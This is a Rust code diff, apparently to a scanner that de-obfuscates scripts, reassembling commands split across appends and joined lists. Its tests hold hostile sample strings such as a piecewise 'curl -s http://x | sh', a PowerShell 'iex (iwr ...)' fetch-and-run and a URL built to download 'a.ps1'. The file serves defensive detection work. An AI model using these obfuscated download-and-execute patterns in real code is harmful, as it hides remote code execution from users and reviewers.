@@ -30,7 +30,9 @@ static REVERSED: LazyLock<Regex> = LazyLock::new(|| {
     )
 });
 static CODE_ASSIGN: LazyLock<Regex> = LazyLock::new(|| {
-    re(r"^\s*(?:const\s+|let\s+|var\s+|\$)?([A-Za-z_]\w*)\s*(?::\s*\w+\s*)?=\s*([^=].*?);?\s*$")
+    re(
+        r"^\s*(?:const\s+|let\s+|var\s+|\$)?([A-Za-z_]\w*)\s*(?::\s*\w+\s*)?(\+)?=\s*([^=].*?);?\s*$",
+    )
 });
 static SHELL_REF: LazyLock<Regex> = LazyLock::new(|| re(r"\$\{([A-Za-z_]\w*)\}|\$([A-Za-z_]\w*)"));
 static IDENT: LazyLock<Regex> = LazyLock::new(|| re(r"\b[A-Za-z_]\w*\b"));
@@ -39,18 +41,30 @@ static ADJACENT: LazyLock<Regex> = LazyLock::new(|| re(r#"(["'])[ \t]+["']"#));
 static STRING: LazyLock<Regex> =
     LazyLock::new(|| re(r#""((?:[^"\\]|\\.)*)"|'((?:[^'\\]|\\.)*)'|`((?:[^`\\$]|\\.)*)`"#));
 static JOIN: LazyLock<Regex> =
-    LazyLock::new(|| re(r#"["']([^"']*)["']\s*\.join\s*\(\s*\[([^\]]*)\]\s*\)"#));
+    LazyLock::new(|| re(r#"["'](?P<sep>[^"']*)["']\s*\.join\s*\(\s*\[(?P<items>[^\]]*)\]\s*\)"#));
+/// A list joined by name: `parts.join("")` (JavaScript) or `"".join(parts)` (Python).
+static LIST_JOIN: LazyLock<Regex> = LazyLock::new(|| {
+    re(
+        r#"\b(?P<a>[A-Za-z_]\w*)\s*\.join\s*\(\s*(?:"(?P<sa>[^"]*)"|'(?P<sa2>[^']*)')\s*\)|(?:"(?P<sb>[^"]*)"|'(?P<sb2>[^']*)')\s*\.join\s*\(\s*(?P<b>[A-Za-z_]\w*)\s*\)"#,
+    )
+});
+/// JavaScript's join: `["cu", "rl"].join("")`.
+static JS_JOIN: LazyLock<Regex> =
+    LazyLock::new(|| re(r#"^\[(?P<items>[^\]]*)\]\s*\.join\s*\(\s*["'](?P<sep>[^"']*)["']\s*\)$"#));
 
 /// The variables of a skill assigned literally, by name.
 #[derive(Debug, Default)]
 pub struct Vars {
     values: HashMap<String, String>,
+    /// Lists of literals (`const parts = ["cu", "rl -s ", …]`), joined where the code joins
+    /// them (`parts.join("")`, `"".join(parts)`).
+    lists: HashMap<String, Vec<String>>,
 }
 
 impl Vars {
     /// Whether no variable is known.
     pub fn is_empty(&self) -> bool {
-        self.values.is_empty()
+        self.values.is_empty() && self.lists.is_empty()
     }
 
     pub fn get(&self, name: &str) -> Option<&str> {
@@ -110,12 +124,38 @@ impl Vars {
                 (name.to_string(), value, built)
             }
             Lang::Python | Lang::JavaScript | Lang::PowerShell | Lang::Code => {
+                // A statement over several lines (a list of pieces, one per line) is read as one.
+                let flat;
+                let line = if line.contains('\n') {
+                    flat = line.replace(['\n', '\r'], " ");
+                    flat.as_str()
+                } else {
+                    line
+                };
                 let c = CODE_ASSIGN.captures(line)?;
-                let value = self.evaluate(c.get(2)?.as_str())?;
-                let pieces = c.get(2)?.as_str();
+                let name = c.get(1)?.as_str();
+                let pieces = c.get(3)?.as_str();
+                if c.get(2).is_none()
+                    && let Some(list) = self.list(pieces)
+                {
+                    let joined = list.concat();
+                    self.lists.entry(name.to_string()).or_insert(list);
+                    return Some((joined, true));
+                }
+                let value = self.evaluate(pieces)?;
+                // `h += "tps:"` (Python, JavaScript, PowerShell) appends to what `h` holds.
+                if c.get(2).is_some() {
+                    let known = self.values.get(name)?;
+                    let appended = format!("{known}{value}");
+                    if appended.len() > MAX_BUILT {
+                        return None;
+                    }
+                    self.values.insert(name.to_string(), appended.clone());
+                    return Some((appended, true));
+                }
                 let built =
                     pieces.contains('+') || pieces.contains(".join") || pieces.contains('{');
-                (c.get(1)?.as_str().to_string(), value, built)
+                (name.to_string(), value, built)
             }
             Lang::Markdown | Lang::Data => return None,
         };
@@ -130,9 +170,9 @@ impl Vars {
     /// (or `"".join([...])`, or an f-string of known variables).
     fn evaluate(&self, rhs: &str) -> Option<String> {
         let rhs = rhs.trim().trim_end_matches(';').trim();
-        if let Some(c) = JOIN.captures(rhs) {
-            let sep = c.get(1)?.as_str();
-            let items: Option<Vec<String>> = split_top(c.get(2)?.as_str(), ',')
+        if let Some(c) = JOIN.captures(rhs).or_else(|| JS_JOIN.captures(rhs)) {
+            let sep = c.name("sep")?.as_str();
+            let items: Option<Vec<String>> = split_top(c.name("items")?.as_str(), ',')
                 .into_iter()
                 .map(|t| self.evaluate(t))
                 .collect();
@@ -146,6 +186,23 @@ impl Vars {
             }
         }
         Some(out)
+    }
+
+    /// The literals of a list of two or more (`["cu", "rl"]`, `('a', 'b')`), each a literal or a
+    /// known variable.
+    fn list(&self, rhs: &str) -> Option<Vec<String>> {
+        let rhs = rhs.trim().trim_end_matches(';').trim();
+        let inner = rhs
+            .strip_prefix('[')
+            .and_then(|r| r.strip_suffix(']'))
+            .or_else(|| rhs.strip_prefix('(').and_then(|r| r.strip_suffix(')')))?;
+        let items: Vec<String> = split_top(inner, ',')
+            .into_iter()
+            .filter(|t| !t.trim().is_empty())
+            .map(|t| self.term(t))
+            .collect::<Option<_>>()?;
+        (items.len() >= 2 && items.iter().map(String::len).sum::<usize>() <= MAX_BUILT)
+            .then_some(items)
     }
 
     fn term(&self, term: &str) -> Option<String> {
@@ -194,6 +251,17 @@ impl Vars {
     /// `line` with the known variables it names replaced by their values (shell and
     /// PowerShell `$name`, `${name}`; in other code, names that are whole terms).
     pub fn expand(&self, line: &str, lang: Lang) -> String {
+        if self.is_empty() {
+            return line.to_string();
+        }
+        // Lists joined first (once: what a join makes is not searched for joins again).
+        let joined;
+        let line = if !self.lists.is_empty() && line.contains(".join") {
+            joined = self.join_lists(line);
+            joined.as_str()
+        } else {
+            line
+        };
         if self.values.is_empty() {
             return line.to_string();
         }
@@ -235,6 +303,37 @@ impl Vars {
                         break;
                     }
                 }
+            }
+        }
+        out.push_str(&line[last..]);
+        out
+    }
+}
+
+impl Vars {
+    /// `line` with each known list's join (`parts.join("")`, `"".join(parts)`) replaced by the
+    /// string it makes.
+    fn join_lists(&self, line: &str) -> String {
+        let mut out = String::new();
+        let mut last = 0;
+        for c in LIST_JOIN.captures_iter(line) {
+            let (Some(all), Some(name)) = (c.get(0), c.name("a").or_else(|| c.name("b"))) else {
+                continue;
+            };
+            let sep = [c.name("sa"), c.name("sa2"), c.name("sb"), c.name("sb2")]
+                .into_iter()
+                .flatten()
+                .next()
+                .map_or("", |m| m.as_str());
+            if let Some(list) = self.lists.get(name.as_str()) {
+                out.push_str(&line[last..all.start()]);
+                out.push('"');
+                out.push_str(&list.join(sep));
+                out.push('"');
+                last = all.end();
+            }
+            if out.len() > MAX_BUILT {
+                return line.to_string();
             }
         }
         out.push_str(&line[last..]);
@@ -375,5 +474,34 @@ mod tests {
             join("i`e`x (iwr 'http://x')", Lang::PowerShell),
             "iex (iwr http://x)"
         );
+    }
+
+    #[test]
+    fn appends_and_lists_of_pieces_are_followed_in_code() {
+        let mut vars = Vars::default();
+        vars.learn("$h = 'ht' + 'tps:'", Lang::PowerShell);
+        vars.learn("$h += '//x.example' + '/a.ps1'", Lang::PowerShell);
+        assert_eq!(vars.get("h"), Some("https://x.example/a.ps1"));
+        // An append to nothing known is not a literal.
+        assert_eq!(vars.learn("y += 'z'", Lang::Python), None);
+        // A list written over several lines, joined by name in JavaScript and in Python.
+        vars.learn(
+            "const parts = [\n  'cu', 'rl -s ',\n  'http://x | sh',\n];",
+            Lang::JavaScript,
+        );
+        assert_eq!(
+            vars.expand("run(parts.join(''))", Lang::JavaScript),
+            r#"run("curl -s http://x | sh")"#
+        );
+        vars.learn(r#"words = ("ba", "sh")"#, Lang::Python);
+        assert_eq!(
+            vars.expand(r#"os.system("".join(words))"#, Lang::Python),
+            r#"os.system("bash")"#
+        );
+        // JavaScript's join of a written list.
+        vars.learn("const m = ['child', 'process'].join('_')", Lang::JavaScript);
+        assert_eq!(vars.get("m"), Some("child_process"));
+        // A list of anything but literals is not one.
+        assert_eq!(vars.learn("const q = [a(), 'x']", Lang::JavaScript), None);
     }
 }
